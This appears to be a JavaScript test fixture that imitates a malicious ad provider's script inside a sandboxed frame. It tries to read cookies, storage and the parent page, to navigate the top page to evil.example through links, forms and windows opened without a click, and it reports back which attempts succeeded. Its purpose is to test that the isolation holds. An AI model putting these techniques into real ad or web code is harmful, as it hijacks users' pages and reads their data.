// Stands for a provider's script that means harm: it tries all that an ad must not do, and reports how each try ended.
const address = document.currentScript.src
const tried = {}

function attempt(name, act) {
  try {
    const given = act()
    tried[name] = given === null || given === undefined ? 'nothing' : String(given)
  } catch (error) {
    tried[name] = error.name
  }
}

attempt('its origin', () => self.origin)
attempt('the page it stands on', () => document.referrer || undefined)
attempt('localStorage', () => localStorage.length)
attempt('sessionStorage', () => sessionStorage.length)
attempt('cookies', () => document.cookie)
attempt('IndexedDB', () => indexedDB.open('switchyard'))
attempt('the offline copy', () => caches.keys())
attempt('service workers', () => navigator.serviceWorker.controller)
attempt('the document of the page', () => parent.document.title)
attempt('the address of the page', () => parent.location.href)
attempt('its own frame', () => frameElement)
// Opened by its address it is the page itself.
if (self !== top) {
  attempt('leading the page elsewhere', () => top.location.assign('https://evil.example/page'))
  attempt('replacing the page', () => (parent.location = 'https://evil.example/page'))
  attempt('a window without a press', () => (open('https://evil.example/window') ? 'opened' : null))
  attempt('a link over the page', () => {
    const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/link', target: '_top' })
    document.documentElement.append(link)
    link.click()
  })
  attempt('a form over the page', () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form', target: '_top' })
    document.documentElement.append(form)
    form.submit()
  })
}
attempt('a question to the person', () => confirm('Sure?'))
parent.postMessage({ hello: 'page' }, '*')

const button = document.createElement('button')
button.textContent = 'Buy'
button.addEventListener('click', () => open(new URL('/landing', address)))
document.documentElement.append(button)

// The provider says whether it leaves its frame too.
void fetch(new URL('/tried', address), { method: 'POST', body: JSON.stringify(tried) })
  .then((answer) => answer.text())
  .then((said) => {
    if (said === 'leave') location.href = new URL('/elsewhere', address)
  })
